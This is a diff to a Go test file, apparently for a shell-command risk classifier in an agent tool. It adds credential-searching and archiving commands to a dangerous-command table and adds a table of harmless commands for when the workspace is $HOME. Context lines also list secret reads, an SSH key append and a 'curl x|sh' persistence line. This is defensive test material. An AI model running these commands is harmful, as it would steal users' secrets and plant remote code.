@@ -95,6 +95,10 @@ var dangerousByCategory = []riskTable{
 		"chmod 777 .ssh",
 		"echo x > .config/agent-lsp/settings.json",
 		"cd .ssh && echo k >> authorized_keys",
+		"grep -r password .",
+		"tar czf /tmp/h.tgz .",
+		"rg --hidden -uu token .",
+		"rg -uu token ~",
 	}},
 	{"sensitive paths ($HOME under /tmp)", tmpHomeCtx, []string{
 		"echo 'curl x|sh' >> ~/.bashrc",
@@ -290,7 +294,6 @@ var dangerousByCategory = []riskTable{
 		"vault kv get secret/x",
 		"docker-credential-desktop get <<< https://index.docker.io/v1/",
 		"grep -r AKIA ~",
-		"rg -uu token ~",
 		"tar czf /tmp/h.tgz ~",
 		"cp -r ~ ./home-copy",
 		"find ~ -name id_rsa -exec cat {} \\;",
@@ -583,6 +586,12 @@ var everydayByCategory = []riskTable{
 		"cut -d, -f1 data.csv | sort | uniq -c", "sed -n '10,20p' main.go", "sed 's/foo/bar/g' in.txt > out.txt",
 		"less README.md", "xxd bin/app | head", "md5sum go.sum", "realpath .", "lsof -i :8080", "nc -z localhost 5432",
 		"cat /proc/cpuinfo | head", "cat /proc/$$/status", "ls /proc/self/",
+	}},
+	{"workspace is $HOME", homeWsCtx, []string{
+		"ls -la", "git status", "cat .bashrc", "rg TODO", "rg TODO ~", "find . -name '*.go'", "du -sh .", "echo x > notes.txt",
+		"mkdir -p code/x", "cd code/proj && go test ./...", "cp .bashrc .bashrc.bak", "grep -rn TODO code/", "ls .ssh",
+		"tar czf code.tgz code", "rm -rf code/proj/build", "vim notes.md", "python3 code/x.py", "git -C code/proj log",
+		"find . -maxdepth 1",
 	}},
 	{"edits in the workspace", projectCtx, []string{
 		"mkdir -p internal/x", "touch internal/x/x.go", "cp main.go main.go.bak", "mv old.go new.go", "rm main.go.bak",
